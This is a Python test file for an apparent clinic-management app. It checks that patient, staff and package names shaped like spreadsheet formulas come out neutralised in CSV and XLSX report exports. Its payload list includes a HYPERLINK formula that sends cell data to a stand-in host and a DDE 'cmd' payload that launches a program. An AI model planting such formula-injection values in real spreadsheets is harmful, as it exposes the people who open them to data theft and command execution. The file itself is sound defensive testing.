"""Issue 15, item 2: a name is never a formula in a spreadsheet.

Patient, staff, treatment and package names such as ``=HYPERLINK(...)`` or ``=cmd|...``
go into the four reports' CSV neutralised (a leading apostrophe, OWASP) and into their XLSX
as string cells, read back exactly as typed; amounts stay numbers and dates stay dates. The
table export and the reports share one rule (app/services/spreadsheet_cells.py), and a
table exported then imported gives every name back as it was.
"""

from __future__ import annotations

import csv
from datetime import date, datetime
from decimal import Decimal, InvalidOperation

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services import Clinic
from app.services.reports import export as report_export
from app.services.spreadsheet_cells import FORMULA_START, neutralise, unescape

PAYLOADS = ('=HYPERLINK("http://evil.example/?q="&A1,"Click")', "=cmd|' /C calc'!A0",
            "+1 Physio", "-1 Massage", "@SUM(A1)")
MARCH = (date(2026, 3, 1), date(2026, 3, 31))


@pytest.fixture
def hostile(clinic, clock):
    """For each payload: a practitioner, a treatment, a package of it and a patient, all
    named with it; the package sold by that practitioner, then one use given by them (a
    double compensation, so the names are in every section of the four reports)."""
    names = []
    for n, payload in enumerate(PAYLOADS):
        staff = clinic.staff.add(payload, practitioner=True)
        treatment = clinic.catalog.add_treatment_type(payload, duration_min=30, price=5000)
        template = clinic.catalog.add_package_template(payload, price=20000, uses=4,
                                                       eligible={treatment: 0}, validity="6m")
        patient = clinic.patients.add(payload, payload)
        sale = clinic.billing.sell_package(patient, template, staff_id=staff)
        clinic.billing.receive_payment(patient, 5000, "cash", invoice_id=sale.invoice_id)
        clinic.schedule.arrive(clinic.schedule.book(patient, staff, treatment,
                                                    datetime(2026, 3, 3 + n, 10, 0)))
        names.append(payload)
    clock.set(datetime(2026, 3, 20, 9, 0))
    return names


def reports(clinic) -> dict:
    return {"package_sales": clinic.reports.package_sales(*MARCH),
            "package_usage": clinic.reports.package_usage(*MARCH),
            "outstanding": clinic.reports.outstanding(date(2026, 3, 20)),
            "compensation": clinic.reports.compensation(*MARCH)}


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


@pytest.mark.parametrize("kind", ["package_sales", "package_usage", "outstanding",
                                  "compensation"])
def test_a_name_is_never_a_formula_in_a_report_csv(clinic, hostile, kind, tmp_path):
    path = report_export.to_csv(reports(clinic)[kind], tmp_path / f"{kind}.csv")
    with open(path, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    runnable = [c for c in cells if c.startswith(FORMULA_START) and not is_number(c)]
    assert runnable == [], "a spreadsheet would run these"
    texts = {unescape(c) for c in cells}
    for payload in hostile:
        assert any(payload in text for text in texts), (kind, payload)
        assert "'" + payload in cells or any(c.startswith("'" + payload) for c in cells)
    assert any(is_number(c) and "." in c for c in cells), "amounts are plain numbers"


@pytest.mark.parametrize("kind", ["package_sales", "package_usage", "outstanding",
                                  "compensation"])
def test_a_name_is_a_string_cell_in_a_report_workbook(clinic, hostile, kind, tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    path = report_export.to_xlsx(reports(clinic)[kind], tmp_path / f"{kind}.xlsx")
    book = openpyxl.load_workbook(path)
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
             if cell.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no formula cells"
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    texts = [c.value for c in cells if isinstance(c.value, str)]
    for payload in hostile:
        # exactly as typed: no apostrophe in a workbook, where a string cell is only text
        assert payload in texts or f"{payload} {payload}" in texts, (kind, payload)
    assert any(c.data_type == "n" and not c.is_date and c.number_format.startswith("#,##0")
               for c in cells), "amounts stay numbers"
    if kind != "compensation":  # (its main table is per staff member: no dates)
        assert any(c.is_date for c in cells), "dates stay dates"


def test_the_table_export_and_import_give_every_name_back(clinic, tmp_path, clock):
    names = [*PAYLOADS, "'=already quoted", "''+two", "\tTabbed", "O'Brien", "'plain"]
    for name in names:
        clinic.patients.add(name, "Formula")
    out = tmp_path / "patients.csv"
    clinic.csv.export_table("patients", out)
    with open(out, encoding="utf-8-sig", newline="") as handle:
        first = [row["first_name"] for row in csv.DictReader(handle)]
    assert [c for c in first if c.startswith(FORMULA_START)] == []
    with Clinic.open(tmp_path / "other.db", clock=clock) as other:
        preview = other.csv.preview_import("patients", out)
        assert other.csv.import_rows(preview).created == len(names)
        back = sorted(p.first_name for p in other.patients.search("formula"))
    # the import strips a name's spaces, as typing it does ("\tTabbed" is "Tabbed")
    assert back == sorted(name.strip() for name in names)


@given(st.text())
def test_unescape_undoes_neutralise_for_every_text(text):
    assert unescape(neutralise(text)) == text
    assert not neutralise(text).startswith(FORMULA_START)


@given(st.text().filter(lambda t: not t.lstrip("'").startswith(FORMULA_START)))
def test_a_text_that_runs_nothing_is_left_as_it_is(text):
    assert neutralise(text) == text == unescape(text)
